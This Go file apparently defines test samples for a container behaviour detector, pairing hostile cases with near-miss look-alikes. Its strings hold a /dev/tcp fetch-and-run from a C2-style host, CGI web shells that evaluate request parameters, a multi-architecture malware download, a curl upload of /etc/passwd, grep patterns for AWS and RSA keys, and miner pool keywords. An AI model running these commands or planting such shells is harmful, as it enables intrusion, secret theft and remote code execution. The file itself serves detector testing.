package samples

// compilers, loaders and tools: what they are used for decides.
func used() []Sample {
	link := func(name string, args ...string) Spec {
		s := acts()
		s.Entrypoint, s.Links = append([]string{name}, args...), map[string]string{name: "/bin/actor"}
		return s
	}
	gcc := func(text string) Spec {
		s := script(text)
		s.Files["/usr/bin/gcc"] = "#!/bin/sh\nwhile [ $# -gt 0 ]; do\n\tif [ \"$1\" = -o ]; then cp /bin/busybox \"$2\"; fi\n\tshift\ndone\n"
		return s
	}
	loader := func(program string) Spec {
		return script("cp /bin/dash /tmp/tool\nchmod 644 /tmp/tool\nfor l in /lib64/ld-linux-* /lib/ld-linux-*; do\n\tif [ -e $l ]; then exec $l " + program + " -c 'echo ran'; fi\ndone\n")
	}
	workdir := func(path string) Spec {
		return Spec{Entrypoint: []string{"/bin/echo"}, Cmd: []string{"started"}, WorkingDir: path}
	}
	grep := script("grep -rE 'AKIA[0-9A-Z]{16}|BEGIN RSA PRIVATE KEY' /root /etc || true\n")
	own := script("grep -r TODO /srv || true\n")
	own.Files["/srv/notes"] = "TODO: nothing\n"
	list := script("cat /etc/blocked\nactor ok\n")
	list.Files["/etc/blocked"] = "stratum+tcp://pool.mine.test donate-level randomx mining.authorize\n"
	return []Sample{
		shows("miner-binary/dropped", script("cp /bin/actor /srv/worker\necho 'stratum+tcp:// donate-level randomx mining.authorize' >> /srv/worker\n/srv/worker ok\n"), malicious, "/srv/worker"),
		nearly("miner-binary/list-of-pools", list),
		shows("packed-elf/upx", script("cp /bin/actor /srv/p\necho -n 'UPX!' >> /srv/p\n/srv/p ok\n"), bad, "/srv/p"),
		nearly("packed-elf/plain", script("cp /bin/actor /srv/p\n/srv/p ok\n")),
		shows("compile-on-target/program", gcc("gcc -O2 -o /srv/tool tool.c\n"), harmless, "gcc"),
		shows("compile-on-target/hidden-library", gcc("gcc -shared -fPIC hide.c -o /usr/lib/.hide.so\n"), malicious, "/usr/lib/.hide.so"),
		nearly("compile-on-target/only-asks", gcc("gcc --version\n")),
		shows("config-exploit-workdir/descriptor", workdir("/proc/self/fd/8"), malicious, "/proc/self/fd/8"),
		nearly("config-exploit-workdir/proc", workdir("/proc")).verdict(clean[0], inconclusive[0]),
		shows("ldso-proxy-exec/new-program", loader("/tmp/tool"), bad, "/tmp/tool"),
		nearly("ldso-proxy-exec/own-program", loader("/bin/dash")),
		shows("anti-debug/trace-me", acts("trace-me"), harmless, "PTRACE_TRACEME"),
		nearly("anti-debug/debugger", acts("debug", "/bin/true")),
		shows("tool-renamed/wget", script("mv /bin/wget /bin/wdl\necho moved\n"), harmless, "/bin/wdl"),
		nearly("tool-renamed/own-file", script("echo 1 > /srv/ps\nmv /srv/ps /srv/ps.1\n")),
		shows("tool-upload/form", link("/usr/bin/curl", "-F", "file=@/etc/passwd", "http://up.example.test/drop"), harmless, "file=@/etc/passwd"),
		nearly("tool-upload/download", link("/usr/bin/curl", "-fsSL", "http://dl.example.test/words.txt")),
		shows("secret-scan-tool/scanner", link("/usr/bin/trufflehog", "filesystem", "/"), harmless, "trufflehog"),
		shows("secret-scan-tool/search", grep, harmless, "AKIA"),
		nearly("secret-scan-tool/own-search", own),
	}
}

// entered are images into which somebody comes, or which fetch what comes in.
func entered() []Sample {
	bash := func(text string) Spec {
		return Spec{Entrypoint: []string{"/bin/bash", "-c", text}, Programs: []string{"bash"}}
	}
	served := func(command string) Spec {
		s := acts(command, "8080")
		s.Ports = []string{"8080/tcp"}
		return s
	}
	// A script that a web server starts, with what it was asked for in $asked.
	const asks = "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nasked=${QUERY_STRING#*cmd=}\nasked=$(httpd -d \"${asked%%&*}\")\n"
	cgi := func(text string) Spec {
		return Spec{
			Entrypoint: []string{"/bin/httpd", "-f", "-p", "8080", "-h", "/var/www/html"}, Ports: []string{"8080/tcp"},
			Files: map[string]string{"/var/www/html/cgi-bin/status.cgi": asks + text, "/var/www/html/index.html": "<h1>It works</h1>\n"},
		}
	}
	repeats := cgi("")
	repeats.Files["/var/www/html/cgi-bin/status.cgi"] = "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\ndate\necho \"you asked for: $QUERY_STRING\"\n"
	written := script("mkdir -p /srv/site/cgi-bin\ncp /srv/template /srv/site/cgi-bin/.x.sh\nexec httpd -f -p 8080 -h /srv/site\n")
	written.Files["/srv/template"], written.Ports = asks+"sh -c \"$asked\"\n", []string{"8080/tcp"}
	return []Sample{
		shows("shell-devtcp/fetch-and-run", bash("exec 3<>/dev/tcp/203.0.113.90/80\nprintf 'GET /job.sh HTTP/1.0\\r\\nHost: c2.test\\r\\n\\r\\n' >&3\ncat <&3 | sed '1,/^.\\{0,1\\}$/d' | sh\n"), malicious, "203.0.113.90:80"),
		shows("shell-devtcp/port-test", bash("echo > /dev/tcp/db.example.test/5432 && echo up\n"), harmless, ":5432"),
		nearly("shell-devtcp/only-says-so", bash("echo 'a test for /dev/tcp/127.0.0.1/80'\n")),
		shows("webshell-exec/parameter", served("webshell"), malicious, "echo "),
		nearly("webshell-exec/own-children", served("date-page")),
		shows("webshell-exec/behind-a-form", served("webshell-form"), malicious, "POST /tools/do", "echo "),
		nearly("webshell-exec/own-form", served("contact-form")),
		shows("webshell-exec/cgi-script", cgi("eval \"$asked\"\n"), malicious, "GET /cgi-bin/status.cgi", "X1337"),
		nearly("webshell-exec/cgi-that-repeats", repeats),
		shows("webshell-exec/written-when-it-runs", written, malicious, "GET /cgi-bin/.x.sh"),
		shows("multiarch-download/all", script("for a in x86 mips mpsl arm7 sh4; do\n\twget -q -O /tmp/k.$a http://198.18.9.9/bins/k.$a\ndone\n"), malicious, "/bins/k.mpsl"),
		nearly("multiarch-download/own-machine", script("wget -q -O /tmp/tool.tgz http://dl.example.test/tool-$(uname -m).tar.gz\nwget -q -O /tmp/tool.sum http://dl.example.test/tool-$(uname -m).sha256\necho done\n")),
	}
}
